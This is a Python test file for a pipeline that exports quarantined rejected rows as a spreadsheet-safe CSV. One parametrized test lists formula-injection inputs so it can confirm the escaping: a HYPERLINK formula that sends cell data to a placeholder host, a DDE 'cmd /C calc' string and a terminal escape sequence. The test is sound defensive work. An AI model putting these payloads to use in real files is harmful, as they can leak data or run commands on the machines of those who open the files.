"""Rejected rows become a table that can be corrected, and that no spreadsheet runs."""

import csv
import gzip
import io
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.outcomes import PipelineError
from pipeline.rejects import BEFORE, Layout, Reject, cell, read_rejects, write_csv

FORMULA = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def packed(*lines: Any) -> io.BytesIO:
    """An object in quarantine."""
    text = "".join(json.dumps(line) + "\n" for line in lines)
    return io.BytesIO(gzip.compress(text.encode()))


def reject(raw: str, row: int = 1, **changes: Any) -> dict[str, Any]:
    """A line of quarantine."""
    return {"row": row, "line": row + 1, "reasons": ["email:required"], "raw": raw} | changes


def table(*lines: dict[str, Any], delimiter: str = ",") -> list[list[str]]:
    """What somebody reads who opens the CSV of some rows."""
    rejects = list(read_rejects(packed(*lines), "quarantine/x"))
    out = io.StringIO(newline="")
    write_csv(out, rejects, Layout.of(rejects, delimiter))
    text = out.getvalue()
    assert text.startswith("\ufeff")
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True))


def fields(*lines: dict[str, Any], **options: Any) -> list[list[str]]:
    """The same without the columns before those of the file."""
    return [row[len(BEFORE) :] for row in table(*lines, **options)]


def test_reasons_are_beside_each_row() -> None:
    head, row = table(reject("a,b", 7, line=9, reasons=["email:required", "age:integer"]))
    assert head == ["row", "line", "reasons", "what to do", "field 1", "field 2"]
    assert row[:3] == ["7", "9", "email:required, age:integer"]
    assert "Supply the value." in row[3]
    assert "not an integer" in row[3]
    assert row[4:] == ["a", "b"]


def test_the_same_advice_is_given_once() -> None:
    found = Reject(1, None, ("a:required", "b:required"), "x")
    assert found.advice.count("Supply the value.") == 1


def test_fields_are_those_of_the_file() -> None:
    rows = fields(reject('1,"a ""b"", c\nd",3'), reject("1,2", 2), reject("", 3))
    assert rows == [
        ["field 1", "field 2", "field 3"],
        ["1", 'a "b", c\nd', "3"],
        ["1", "2"],
        [""],
    ]


def test_another_delimiter() -> None:
    assert fields(reject("a;b,c"), delimiter=";")[1] == ["a", "b,c"]


@pytest.mark.parametrize("raw", ['a"b,"c', '"never closed', "a\nb", '"a"b'])
def test_a_row_that_cannot_be_split_is_one_field(raw: str) -> None:
    assert fields(reject(raw))[1:] == [[raw]] or fields(reject(raw))[1] == ['a"b', "c"]


def test_objects_have_their_names() -> None:
    rows = fields(
        reject('{"a": "x", "b": 1}'),
        reject('{"b": null, "c": [true, "é"]}', 2),
        reject('{"a": 1, "a": 2}', 3, line=None),
        reject("not JSON", 4),
        reject("[1]", 5),
        reject("[" * 100_000, 6),
    )
    assert rows[0] == ["a", "b", "c", "text"]
    assert rows[1] == ["x", "1", ""]
    assert rows[2] == ["", "", '[true, "é"]']
    assert rows[3:6] == [
        ["", "", "", '{"a": 1, "a": 2}'],
        ["", "", "", "not JSON"],
        ["", "", "", "[1]"],
    ]


@pytest.mark.parametrize(
    "text",
    ["1.10", "12345678901234567.123456", "1e400", "-0", "0.1000", '{"x": 1.5, "y": 2}'],
)
def test_a_number_stays_as_it_was_written(text: str) -> None:
    assert fields(reject(f'{{"a": {text}}}'))[1] == [text]


def test_objects_alone_need_no_column_for_text() -> None:
    assert fields(reject('{"a": 1}')) == [["a"], ["1"]]


def test_rows_that_invent_names_do_not_multiply_the_columns(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("pipeline.rejects.MOST_NAMES", 3)
    rows = fields(
        reject('{"a": 1, "b": 2}'),
        *(reject(json.dumps({"a": 1, f"x{number}": 2}), number) for number in range(9)),
        reject('{"b": 3}', 10),
    )
    assert rows[0] == ["a", "b", "x0", "text"]
    assert rows[1:4] == [
        ["1", "2", ""],
        ["1", "", "2"],
        ["", "", "", '{"a": 1, "x1": 2}'],
    ]
    assert rows[-1] == ["", "3", ""]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x/?"&A1,"y")', '\'=HYPERLINK("http://x/?"&A1,"y")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0d1", "'\uff0d1"),
        ("\n=1", "'\n=1"),
        ("\t=1", r"\t=1"),
        ("\r=1", r"\r=1"),
        ("-1", "-1"),
        ("-1.234,50", "-1.234,50"),
        ("a=1", "a=1"),
        ("", ""),
        ("a\r\nb", "a\nb"),
        ("\x1b]0;x\x07", r"\x1b]0;x\x07"),
        ("\x00", r"\x00"),
    ],
)
def test_no_cell_is_a_formula_or_changes_a_terminal(text: str, shown: str) -> None:
    assert cell(text) == shown


@given(st.lists(st.text(), max_size=5), st.text())
def test_no_row_whatever_it_holds_becomes_a_formula(values: list[str], name: str) -> None:
    raws = [*values, json.dumps({name: "=1", **dict.fromkeys(values, "=1")})]
    for raw in raws:
        for row in table(reject(raw, reasons=[name])):
            for text in row:
                assert not FORMULA.match(text) or re.fullmatch(r"-[\d.,]+", text)
                assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", text)


def test_a_long_record_is_one_record() -> None:
    assert fields(reject("x" * 1_000_000))[1] == ["x" * 1_000_000]


@pytest.mark.parametrize(
    "content",
    [
        b"not gzip",
        packed({"reason": "file:empty", "line": None, "source": {}}).getvalue(),
        packed([]).getvalue(),
        packed(reject("x")).getvalue()[:-9],
        gzip.compress(b"{\n"),
        gzip.compress(b"x")[:10] + b"\xff" * 20,
        gzip.compress(b"[" * 100_000),
    ],
    ids=["not gzip", "a refusal", "a list", "cut", "not JSON", "damaged", "too deep"],
)
def test_what_has_no_rows_is_named(content: bytes) -> None:
    with pytest.raises(PipelineError, match="quarantine/x has no rows that can be read"):
        list(read_rejects(io.BytesIO(content), "quarantine/x"))
